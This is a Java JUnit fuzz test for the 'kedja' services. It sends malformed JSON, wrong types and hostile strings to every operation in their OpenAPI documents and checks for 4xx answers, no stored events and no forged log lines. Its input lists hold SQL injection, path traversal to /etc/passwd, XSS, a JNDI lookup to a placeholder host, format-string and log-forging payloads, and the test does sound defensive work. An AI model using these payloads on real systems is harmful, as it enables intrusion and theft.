package se.kedja.reliability;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * Every operation in each service's OpenAPI document, sent bad input: malformed JSON,
 * wrong types, huge numbers, unicode edge cases, very long strings, injection strings and
 * newline log forging, in the body's fields and in the path. Every answer must be a 4xx
 * problem document (or a harmless 2xx read), never a 5xx; nothing may be recorded; no
 * service log may hold a forged line.
 */
class OpenApiFuzzTest {

	private static final String FORGED = "FORGED-LOG-LINE";

	private static final List<String> VALUES = List.of("' OR '1'='1' --", "x\n" + FORGED + " ERROR 1 --- [main] fake",
			"99999999999999999999999999999999", "-1", "1e400", "\u0000\uFFFF\uD83D\uDE00\u202E\u200B", "\uD800",
			"../../../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x.invalid/a}", "%s%s%n%x",
			"a".repeat(20_000), "NaN", "2010-13-45", "null", "true", "[]", "{}");

	private static final List<String> MALFORMED = List.of("{", "{\"a\":", "[", "nul", "\"text\"", "123", "{\"a\":1}}",
			"[".repeat(5000) + "]".repeat(5000), "{\"a\":" + "9".repeat(5000) + "}", "\uFEFF{}", "{\"a\":\"\\ud800\"}",
			"");

	private static final List<Object> WRONG_TYPES = List.of(12345678901234567890.0, -9.9e307, "text", true,
			List.of(1, 2), Map.of("x", Map.of("y", List.of())), "2010-02-30", "NOT_A_VALUE\n" + FORGED);

	@BeforeAll
	static void built() {
		assumeTrue(Kedja.built(), "the service jars are not built (./kedja build)");
	}

	@Test
	void bad_input_to_every_operation_is_answered_with_a_4xx_problem_and_records_nothing() throws Exception {
		long started = System.nanoTime();
		Kedja kedja = Kedja.shared();
		Ledger ledger = new Ledger();
		try (CaseDriver driver = new CaseDriver(kedja.caseService::url, ledger, 1).start()) {
			Waits.until(Duration.ofSeconds(120), () -> ledger.acknowledged.get() >= 3);
		}
		String participant = ledger.acknowledgedVersions().keySet().iterator().next();
		Waits.until(Duration.ofMinutes(5), () -> kedja.checks().verify(ledger).held());
		long stored = kedja.backend.count("SELECT count(*) FROM cases.domain_event_entry");

		List<String> failures = new ArrayList<>();
		List<String> notProblems = new ArrayList<>();
		long requests = 0;
		for (ServiceJar service : List.of(kedja.caseService, kedja.liveProgress(), kedja.liveAudit())) {
			Http http = new Http(service.url());
			JsonNode document = http.get("/v3/api-docs").json();
			assertThat(document.path("paths").isObject()).as(service.name() + " /v3/api-docs").isTrue();
			for (var path : document.path("paths").properties()) {
				for (var operation : path.getValue().properties()) {
					String method = operation.getKey().toUpperCase();
					if (!List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)) {
						continue;
					}
					for (Attempt attempt : attempts(document, path.getKey(), method, operation.getValue(),
							participant)) {
						requests++;
						Http.Response response;
						try {
							response = http.send(method, attempt.path(), attempt.contentType(), attempt.body());
						}
						catch (IOException ex) {
							failures.add(service.name() + " " + method + " " + attempt.path() + ": " + ex);
							continue;
						}
						String what = service.name() + " " + method + " " + abbreviate(attempt.path()) + " "
								+ abbreviate(new String(attempt.body(), StandardCharsets.UTF_8)) + " → ";
						if (response.status() >= 500) {
							failures.add(what + response);
						}
						else if (response.status() >= 400 && !response.problem() && notProblems.size() < 20) {
							notProblems.add(what + response);
						}
					}
				}
			}
		}
		long storedAfter = kedja.backend.count("SELECT count(*) FROM cases.domain_event_entry");
		List<String> forged = new ArrayList<>();
		for (ServiceJar service : kedja.all()) {
			for (String line : service.logText().split("\n")) {
				if (line.startsWith(FORGED)) {
					forged.add(service.name() + ": " + line);
				}
			}
		}
		boolean held = failures.isEmpty() && storedAfter == stored && forged.isEmpty();
		Summary.row("fuzzing every OpenAPI operation", requests, 0, 0, 0, 0, failures.size(),
				Duration.ofNanos(System.nanoTime() - started), held,
				requests + " bad requests; " + (storedAfter - stored) + " events recorded; " + forged.size()
						+ " forged log lines; " + notProblems.size() + " 4xx without a problem body");
		failures.stream().limit(30).forEach(System.out::println);
		notProblems.forEach((line) -> System.out.println("4xx without problem: " + line));

		assertThat(failures).as("5xx answers or dropped connections").isEmpty();
		assertThat(storedAfter).as("events recorded by bad input").isEqualTo(stored);
		assertThat(forged).as("forged log lines").isEmpty();
	}

	private record Attempt(String path, String contentType, byte[] body) {
	}

	private static List<Attempt> attempts(JsonNode document, String template, String method, JsonNode operation,
			String participant) {
		List<Attempt> attempts = new ArrayList<>();
		int limit = Scale.fuzzCasesPerField();
		// a delete that succeeded on the real case would erase it; it gets an unknown one
		String plain = fill(template, method.equals("DELETE") ? java.util.UUID.randomUUID().toString() : participant,
				null);
		boolean hasBody = operation.has("requestBody");
		List<String> values = VALUES.subList(0, Math.min(VALUES.size(), Math.max(limit, 2)));
		if (template.contains("{")) {
			for (String value : values) {
				attempts.add(new Attempt(fill(template, participant, value), hasBody ? "application/json" : null,
						hasBody ? "{}".getBytes(StandardCharsets.UTF_8) : new byte[0]));
			}
		}
		for (JsonNode parameter : operation.path("parameters")) {
			if ("query".equals(parameter.path("in").asString())) {
				for (String value : values) {
					attempts.add(new Attempt(plain + "?" + parameter.path("name").asString() + "=" + encode(value),
							null, new byte[0]));
				}
			}
		}
		if (!hasBody) {
			return attempts;
		}
		for (String malformed : MALFORMED.subList(0, Math.min(MALFORMED.size(), limit * 2))) {
			attempts.add(new Attempt(plain, "application/json", malformed.getBytes(StandardCharsets.UTF_8)));
		}
		attempts.add(new Attempt(plain, "text/plain", "{}".getBytes(StandardCharsets.UTF_8)));
		JsonNode schema = resolve(document,
				operation.path("requestBody").path("content").path("application/json").path("schema"));
		for (var property : schema.path("properties").properties()) {
			List<Object> wrong = new ArrayList<>(WRONG_TYPES.subList(0, Math.min(WRONG_TYPES.size(), limit)));
			wrong.addAll(values);
			for (Object value : wrong) {
				ObjectNode body = Http.JSON.createObjectNode();
				body.set(property.getKey(), Http.JSON.valueToTree(value));
				attempts.add(new Attempt(plain, "application/json", Http.JSON.writeValueAsBytes(body)));
			}
		}
		return attempts;
	}

	private static JsonNode resolve(JsonNode document, JsonNode schema) {
		String ref = schema.path("$ref").asString();
		if (ref.startsWith("#/components/schemas/")) {
			return document.path("components").path("schemas").path(ref.substring("#/components/schemas/".length()));
		}
		return schema;
	}

	/**
	 * Path variables as a real participant or project, or the fuzz value in all of them.
	 */
	private static String fill(String template, String participant, String value) {
		StringBuilder path = new StringBuilder();
		int at = 0;
		while (at < template.length()) {
			int open = template.indexOf('{', at);
			if (open < 0) {
				path.append(template, at, template.length());
				break;
			}
			int close = template.indexOf('}', open);
			path.append(template, at, open);
			String name = template.substring(open + 1, close).toLowerCase();
			String filled = (value != null) ? value
					: name.contains("project") ? CaseDriver.PROJECT
							: name.contains("month") ? "2010-03" : name.contains("participant") || name.equals("id")
									? participant : "00000000-0000-4000-8000-000000000000";
			path.append(encode(filled));
			at = close + 1;
		}
		return path.toString();
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
	}

	private static String abbreviate(String text) {
		return (text.length() > 80) ? text.substring(0, 80) + "…" : text;
	}

}
